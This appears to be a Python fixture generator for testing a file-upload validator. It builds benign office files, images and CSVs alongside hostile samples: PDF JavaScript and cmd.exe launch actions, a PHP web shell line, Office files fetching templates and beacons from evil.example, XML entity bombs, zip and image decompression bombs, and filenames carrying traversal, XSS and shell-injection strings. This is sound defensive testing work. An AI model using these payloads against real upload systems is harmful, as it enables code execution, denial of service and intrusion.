"""Makes files to offer: real ones of the ten types, and hostile ones. Nothing binary is kept."""

import functools
import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable

import openpyxl
import pikepdf
from PIL import Image
from weasyprint import HTML

CONTENT_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OOXML = "application/vnd.openxmlformats-officedocument."
MAIN = {
    "docx": ("word/document.xml", f"{OOXML}wordprocessingml.document.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{OOXML}presentationml.presentation.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{OOXML}spreadsheetml.sheet.main+xml"),
}
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
ODF = "application/vnd.oasis.opendocument."


def zipped(entries: dict[str, bytes | str], *, mimetype: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if mimetype:
            archive.writestr("mimetype", mimetype, zipfile.ZIP_STORED)
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def relations(*given: tuple[str, str, str]) -> str:
    rows = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
        for n, (kind, target, mode) in enumerate(given)
    )
    return f'{XML}<Relationships xmlns="{RELATIONS}">{rows}</Relationships>'


def office_parts(extension: str = "docx", *, kind: str = "") -> dict[str, bytes | str]:
    part, main_kind = MAIN[extension]
    return {
        "[Content_Types].xml": f'{XML}<Types xmlns="{CONTENT_TYPES}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{kind or main_kind}"/></Types>',
        "_rels/.rels": relations(("officeDocument", part, "")),
        part: f'{XML}<w:document xmlns:w="urn:x"><w:body>Practice</w:body></w:document>',
    }


def office(extension: str = "docx", *, kind: str = "", **more: bytes | str) -> bytes:
    """A minimal Office file; further parts by name, with __ for / and _dot_ for a dot."""
    names = {k.replace("__", "/").replace("_dot_", "."): v for k, v in more.items()}
    return zipped(office_parts(extension, kind=kind) | names)


def xlsx() -> bytes:
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["Measure", "People"])
    book.active.append(["Apprentices", 14])
    book.active["A3"].hyperlink = "https://www.example.org/report"
    book.save(out)
    return out.getvalue()


def open_document(extension: str, *, body: str = "", **more: bytes | str) -> bytes:
    kind = ODF + {"odt": "text", "ods": "spreadsheet"}[extension]
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"'
    )
    parts: dict[str, bytes | str] = {
        "content.xml": f"{XML}<office:document-content {spaces}>{body}</office:document-content>",
        "META-INF/manifest.xml": f"{XML}<m:manifest "
        'xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"></m:manifest>',
        "Configurations2/accelerator/current.xml": "",
    }
    names = {k.replace("__", "/").replace("_dot_", "."): v for k, v in more.items()}
    return zipped(parts | names, mimetype=kind)


def picture(kind: str, size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    out = io.BytesIO()
    Image.effect_mandelbrot(size, (-2, -1, 1, 1), 20).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def photograph() -> bytes:
    """A JPEG as a telephone makes it: turned, with the place and the camera in it."""
    exif = Image.Exif()
    exif[0x0110] = "Telephone"
    exif[0x0112] = 6
    exif.get_ifd(0x8825).update({1: "N", 2: (53.0, 20.0, 0.0)})
    return picture("JPEG", (400, 200), exif=exif)


def telephone_pair() -> bytes:
    """Two pictures in one JPEG (MPO), as telephones make them."""
    out = io.BytesIO()
    first, second = (Image.new("RGB", (8, 8), colour) for colour in ("red", "blue"))
    first.save(out, "MPO", save_all=True, append_images=[second])
    return out.getvalue()


@functools.cache
def pdf(pages: int = 2) -> bytes:
    body = "<h1>Practice</h1>".join(["<p style='break-before: page'>Page</p>"] * pages)
    link = "<a href='https://www.example.org/'>More</a>"
    page = f"<html lang=en><title>Practice</title>{body}{link}"
    return HTML(string=page).write_pdf(pdf_variant="pdf/ua-1")


def pdf_with(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    document, out = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    change(document)
    document.save(out, **options)
    return out.getvalue()


def action(**words: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, **words)


SCRIPT = {"S": pikepdf.Name.JavaScript, "JS": "app.alert(1)"}


def _open_action(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = action(**SCRIPT)


def _names_script(document: pikepdf.Pdf) -> None:
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action(**SCRIPT)]))
    document.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def _annotation_script(document: pikepdf.Pdf) -> None:
    page = document.pages[0].obj
    page.Annots = pikepdf.Array(
        [pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(**SCRIPT))]
    )


def _launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = action(S=pikepdf.Name.Launch, F="cmd.exe")


def _attachment(document: pikepdf.Pdf) -> None:
    document.attachments["evil.exe"] = b"MZ"


def _form_script(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>"))


def _rich_media(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.Annots = pikepdf.Array(
        [pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia)]
    )


def pdf_hidden_script() -> bytes:
    """The word JavaScript written so that a search of the bytes does not find it."""
    return pdf_with(
        _annotation_script, object_stream_mode=pikepdf.ObjectStreamMode.disable
    ).replace(b"/JavaScript", b"/#4aavaScript")


def pdf_bomb(megabytes: int = 400) -> bytes:
    """An object stream that unpacks to hundreds of megabytes, by a thousandth of them."""
    packer = zlib.compressobj(9)
    first = b"10 0 "
    packed = packer.compress(first + b"<</S/JavaScript>>")
    packed += b"".join(packer.compress(b" " * 1048576) for _ in range(megabytes)) + packer.flush()
    out, at = bytearray(b"%PDF-1.5\n"), {}
    parts = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 10 0 R>>",
        2: b"<</Type/Pages/Kids[5 0 R]/Count 1>>",
        5: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        3: b"<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
        % (len(first), len(packed), packed),
    }
    for number, body in parts.items():
        at[number] = len(out)
        out += b"%d 0 obj%sendobj\n" % (number, body)
    at[4] = len(out)
    rows = b"".join(struct.pack(">BIH", 1, at[n], 0) for n in (1, 2, 3, 4, 5))
    rows += struct.pack(">BIH", 2, 3, 0)
    out += (
        b"4 0 obj<</Type/XRef/Size 11/Index[1 5 10 1]/W[1 4 2]/Root 1 0 R/Length %d>>stream\n"
        % len(rows)
    )
    out += rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % at[4]
    return bytes(out)


CSV = "Measure,People\nApprentices,14\nCafé,£3\n"
GOOD: dict[str, Callable[[], bytes]] = {
    "report.pdf": pdf,
    "letter.docx": lambda: office(
        word___rels__document_dot_xml_dot_rels=relations(
            ("hyperlink", "https://www.example.org/", ' TargetMode="External"')
        )
    ),
    "figures.xlsx": xlsx,
    "slides.pptx": lambda: office("pptx"),
    "letter.odt": lambda: open_document(
        "odt", body='<text:a xlink:href="https://www.example.org/">More</text:a>'
    ),
    "figures.ods": lambda: open_document("ods"),
    "photo.jpg": photograph,
    "pair.jpg": telephone_pair,
    "PHOTO.JPEG": lambda: picture("JPEG"),
    "chart.png": lambda: picture("PNG"),
    "chart.webp": lambda: picture("WEBP"),
    "lossless.webp": lambda: picture("WEBP", lossless=True),
    "figures.csv": CSV.encode,
    "excel.csv": lambda: CSV.encode("utf-8-sig"),
    "unicode.csv": lambda: CSV.encode("utf-16"),
    "windows.csv": lambda: CSV.encode("cp1252"),
    "less-than.csv": lambda: b"<18,18 to 24\n3,4\n",
    "a.report.v1.2.pdf": pdf,
    # A picture with an archive behind it is a picture: it is never shown as anything else.
    "polyglot.jpg": lambda: picture("JPEG") + zipped({"a.js": "alert(1)"}),
    "tail.png": lambda: picture("PNG") + b"<?php system($_GET[0]); ?>",
}


# Bombs


def docx_of(entries: dict[str, bytes | str]) -> bytes:
    return zipped(office_parts() | entries)


def thousandfold() -> bytes:
    out = io.BytesIO(office())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/zeros.bin", "w", force_zip64=False) as part,
    ):
        for _ in range(150):
            part.write(bytes(1 << 20))
    return out.getvalue()


def nested_bomb() -> bytes:
    inner = zipped({f"{n}.bin": bytes(4 << 20) for n in range(8)})
    layer = zipped({f"{n}.zip": inner for n in range(16)})
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for n in range(16):
            archive.writestr(f"word/{n}.zip", layer)
        archive.writestr("word/zeros.bin", bytes(64 << 20))
    return out.getvalue()


def many_entries(count: int = 100_000) -> bytes:
    """That many empty entries, written by hand: zipfile would need a minute."""
    head = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, 6, 0)
    out, directory = bytearray(), bytearray()
    for n in range(count):
        name = b"%06d" % n
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 6, 0, 0, 0, 0, 0, len(out)
        )
        directory += name
        out += head + name
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count & 0xFFFF, count & 0xFFFF, len(directory), len(out), 0
    )
    return bytes(out + directory + end)


def overlapping() -> bytes:
    """One entry whose bytes are, whole and unpacked, another entry as well."""
    inner = zipped({"word/inner.xml": "<a/>" * 50})
    inner_start = inner.rindex(b"PK\x01\x02")
    outer = io.BytesIO(office())
    with zipfile.ZipFile(outer, "a") as archive:
        archive.writestr("word/outer.bin", inner[:inner_start])
    data = outer.getvalue()
    end = data.rindex(b"PK\x05\x06")
    count, length = struct.unpack("<HL", data[end + 10 : end + 16])
    entry = bytearray(inner[inner_start : inner.rindex(b"PK\x05\x06")])
    entry[42:46] = struct.pack("<L", data.index(inner[:inner_start]))
    tail = bytearray(data[end:])
    tail[8:16] = struct.pack("<HHL", count + 1, count + 1, length + len(entry))
    return data[:end] + bytes(entry) + bytes(tail)


def lying_about_size() -> bytes:
    data = bytearray(thousandfold())
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<L", 1000)
    return bytes(data)


def symlinked() -> bytes:
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def flagged_encrypted() -> bytes:
    data = bytearray(office())
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><l>&j;</l>"
)


def huge_png(width: int = 30_000, height: int = 30_000) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))
        )

    packer = zlib.compressobj(9)
    row = bytes(1 + width // 8)
    data = b"".join(packer.compress(row * 100) for _ in range(height // 100)) + packer.flush()
    head = chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def lying_jpeg() -> bytes:
    data = bytearray(picture("JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(data)


def lying_webp() -> bytes:
    body = b"VP8X" + struct.pack("<L", 10) + bytes(4) + b"\xff\x3f\x00" * 2 + bytes(8)
    return b"RIFF" + struct.pack("<L", len(body) + 4) + b"WEBP" + body


def gif(frames: int = 10_000) -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<4HB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return head + frame * frames + b";"


def animation(kind: str) -> bytes:
    frames = [Image.new("RGB", (8, 8), (n, 0, 0)) for n in range(20)]
    out = io.BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])
    return out.getvalue()


EXE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200)
HTML_PAGE = b"<!DOCTYPE html><script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
XHTML = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script/></html>'
PHP = b"<?php system($_GET[0]); ?>"
MHTML = b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<script/>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
GIF_JS = b"GIF89a=1;alert(document.cookie);//"

TYPE, EMPTY, MACROS, LOOKS = "not a type of file we take", "is empty", "macros", "but is not a"
ENDING, PROGRAM, TABLE, SCRIPTED = "no ending", "ending of a program", "not a table", "a script"
LOCKED, DAMAGED, UNPACKS, LINKED = "protected with a password", "damaged", "unpacks", "fetches"
ATTACHED, PIXELS, ANIMATION, LARGE = "files attached", "million pixels", "animation", "larger than"

# Name, how to make it, and words its refusal has.
HOSTILE: list[tuple[str, Callable[[], bytes], str]] = [
    ("virus.exe", lambda: EXE, TYPE),
    ("virus.pdf", lambda: EXE, LOOKS),
    ("virus.docx", lambda: EXE, LOOKS),
    ("virus.csv", lambda: EXE, TABLE),
    ("page.html", lambda: HTML_PAGE, TYPE),
    ("page.htm", lambda: HTML_PAGE, TYPE),
    ("page.pdf", lambda: HTML_PAGE, LOOKS),
    ("page.jpg", lambda: HTML_PAGE, LOOKS),
    ("page.csv", lambda: HTML_PAGE, TABLE),
    ("spaces.csv", lambda: b"\n\n   " + HTML_PAGE, TABLE),
    ("page16.csv", lambda: HTML_PAGE.decode().encode("utf-16"), TABLE),
    ("drawing.svg", lambda: SVG, TYPE),
    ("drawing.png", lambda: SVG, LOOKS),
    ("drawing.csv", lambda: SVG, TABLE),
    ("page.xhtml", lambda: XHTML, TYPE),
    ("page.xml.csv", lambda: XHTML, TABLE),
    ("page.mhtml", lambda: MHTML, TYPE),
    ("mail.csv", lambda: MHTML, TABLE),
    ("code.js", lambda: b"alert(1)", TYPE),
    ("code.php", lambda: PHP, TYPE),
    ("code.csv", lambda: PHP, TABLE),
    ("code.php.jpg", lambda: picture("JPEG"), PROGRAM),
    ("invoice.pdf.exe", lambda: pdf(), TYPE),
    ("invoice.exe.pdf", lambda: pdf(), PROGRAM),
    ("script.sh", lambda: b"#!/bin/sh\n", TYPE),
    ("script.csv", lambda: b"#!/bin/sh\nrm\n", TABLE),
    ("archive.zip", lambda: zipped({"a": "b"}), TYPE),
    ("noending", lambda: pdf(), ENDING),
    (".htaccess", lambda: b"AddType", TYPE),
    ("dot.", lambda: pdf(), ENDING),
    ("nothing.pdf", lambda: b"", EMPTY),
    ("nothing.csv", lambda: b"", EMPTY),
    ("old.doc", lambda: OLE, "old format"),
    ("locked.docx", lambda: OLE, LOCKED),
    ("letter.docm", lambda: office(word__vbaProject_dot_bin=b"x"), MACROS),
    ("figures.xlsm", lambda: xlsx(), MACROS),
    ("macro.docx", lambda: office(word__vbaProject_dot_bin=b"x"), MACROS),
    ("macro.xlsx", lambda: office("xlsx", xl__VBAPROJECT_dot_BIN=b"x"), MACROS),
    (
        "renamed.docx",
        lambda: office(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
        MACROS,
    ),
    ("sheet4.xlsx", lambda: office("xlsx", xl__macrosheets__sheet1_dot_xml="<a/>"), MACROS),
    ("inner.docx", lambda: office(word__embeddings__a_dot_xlsm=b"x"), MACROS),
    ("control.docx", lambda: office(word__activeX__activeX1_dot_bin=b"x"), MACROS),
    ("macro.odt", lambda: open_document("odt", Basic__Standard__Module1_dot_xml="<a/>"), MACROS),
    (
        "event.odt",
        lambda: open_document("odt", body='<script:event-listener script:language="x"/>'),
        MACROS,
    ),
    ("sheet.docx", lambda: xlsx(), LOOKS),
    ("letter.xlsx", lambda: office("docx"), LOOKS),
    ("text.ods", lambda: open_document("odt"), LOOKS),
    ("plain.docx", lambda: zipped({"a.txt": "b"}), DAMAGED),
    ("empty.docx", lambda: zipped({}), LOOKS),
    ("cut.docx", lambda: office()[:-30], DAMAGED),
    (
        "template.docx",
        lambda: office(
            word___rels__settings_dot_xml_dot_rels=relations(
                ("attachedTemplate", "https://evil.example/t.dotm", ' TargetMode="External"')
            )
        ),
        LINKED,
    ),
    (
        "beacon.docx",
        lambda: office(
            word___rels__document_dot_xml_dot_rels=relations(
                ("image", "https://evil.example/pixel.png", ' TargetMode="External"')
            )
        ),
        LINKED,
    ),
    (
        "share.docx",
        lambda: office(
            word___rels__document_dot_xml_dot_rels=relations(
                ("oleObject", "file://evil.example/a", ' TargetMode="external"')
            )
        ),
        LINKED,
    ),
    (
        "beacon.odt",
        lambda: open_document("odt", body='<draw:image xlink:href="https://evil.example/p"/>'),
        LINKED,
    ),
    ("flagged.docx", flagged_encrypted, LOCKED),
    ("laughs.docx", lambda: docx_of({"word/styles.xml": LAUGHS}), DAMAGED),
    ("laughs16.docx", lambda: docx_of({"word/styles.xml": LAUGHS.encode("utf-16")}), DAMAGED),
    ("laughs-hidden.docx", lambda: docx_of({"word/styles.dat": LAUGHS}), DAMAGED),
    (
        "elsewhere.docx",
        lambda: docx_of({"word/styles.xml": '<!DOCTYPE a SYSTEM "http://evil.example/"><a/>'}),
        DAMAGED,
    ),
    ("laughs.odt", lambda: open_document("odt", styles_dot_xml=LAUGHS), DAMAGED),
    ("script.pdf", lambda: pdf_with(_open_action), SCRIPTED),
    ("names.pdf", lambda: pdf_with(_names_script), SCRIPTED),
    ("link.pdf", lambda: pdf_with(_annotation_script), SCRIPTED),
    ("hidden.pdf", pdf_hidden_script, SCRIPTED),
    (
        "packed.pdf",
        lambda: pdf_with(_annotation_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        SCRIPTED,
    ),
    ("launch.pdf", lambda: pdf_with(_launch), SCRIPTED),
    ("form.pdf", lambda: pdf_with(_form_script), SCRIPTED),
    ("film.pdf", lambda: pdf_with(_rich_media), SCRIPTED),
    ("attached.pdf", lambda: pdf_with(_attachment), ATTACHED),
    (
        "owner.pdf",
        lambda: pdf_with(lambda _: None, encryption=pikepdf.Encryption(owner="x", user="")),
        LOCKED,
    ),
    (
        "locked.pdf",
        lambda: pdf_with(lambda _: None, encryption=pikepdf.Encryption(owner="x", user="y")),
        LOCKED,
    ),
    ("junk-first.pdf", lambda: HTML_PAGE + pdf(), LOOKS),
    ("rubbish.pdf", lambda: b"%PDF-1.7\n" + b"rubbish " * 500, DAMAGED),
    ("polyglot.csv", lambda: GIF_JS, TABLE),
    ("polyglot.png", lambda: GIF_JS, LOOKS),
    ("png.jpg", lambda: picture("PNG"), LOOKS),
    ("cut.png", lambda: picture("PNG")[:40], DAMAGED),
    ("wave.webp", lambda: b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(40), LOOKS),
    ("moving.webp", lambda: animation("WEBP"), ANIMATION),
    ("moving.png", lambda: animation("PNG"), ANIMATION),
    ("binary.csv", lambda: b"a,b\n\x00\x01\x02", TABLE),
    ("no-encoding.csv", lambda: b"a,b\n\x81\x8d\x8f", TABLE),
    ("limit.csv", lambda: b"a" * (25 * 1024 * 1024 + 1), LARGE),
]

BOMBS: list[tuple[str, Callable[[], bytes], str]] = [
    ("42.docx", nested_bomb, UNPACKS),
    ("thousandfold.docx", thousandfold, UNPACKS),
    ("lying.docx", lying_about_size, DAMAGED),
    ("overlapping.docx", overlapping, DAMAGED),
    ("entries.docx", many_entries, UNPACKS),
    ("symlink.docx", symlinked, DAMAGED),
    ("above.docx", lambda: docx_of({"../../evil.xml": "<a/>"}), DAMAGED),
    ("absolute.docx", lambda: docx_of({"/etc/evil.xml": "<a/>"}), DAMAGED),
    ("laughs.docx", lambda: docx_of({"word/styles.xml": LAUGHS}), DAMAGED),
    ("objects.pdf", pdf_bomb, "too complicated"),
    ("huge.png", huge_png, PIXELS),
    ("large.png", lambda: huge_png(8_000, 8_000), PIXELS),
    ("lying.jpg", lying_jpeg, PIXELS),
    ("lying.webp", lying_webp, PIXELS),
    ("frames.png", gif, LOOKS),
]

NAMES = [
    "../../x.csv", "..\\..\\x.csv", "%2e%2e%2fx.csv", "/etc/passwd.csv", "C:\\Windows\\x.csv",
    "CON.csv", "NUL.csv", "aux.csv", "a" * 300 + ".csv", "é" * 300 + ".csv", "\u202evsc.fdp.csv",
    "abc\u202efdp.csv", "\u2066a\u2069.csv", "a\r\nSet-Cookie: x=1.csv", "a\nb.csv", "a\tb.csv",
    'a"b.csv', "a'b.csv", "a;filename=b.csv", "a\\b.csv", "😀.csv",
    "👩‍👩‍👧.csv", "-rf.csv", "--help.csv", " leading.csv", "trailing .csv", "a  b.csv",
    "...csv.csv",
    "<script>alert(1)<.csv", "<img src=x onerror=alert(1)>.csv", "{{ 7*7 }}.csv", "${x}.csv",
    "$(id).csv", "`id`.csv", "a|b.csv", "a*?.csv", "日本語.csv", "ﬁgures.csv", "a\x00b.csv",
    "a\x7f\x1bb.csv", "\ud800.csv", "a%0d%0ab.csv", "e\u0301.csv", "=1+1.csv", "a\u200bb.csv",
]  # fmt: skip
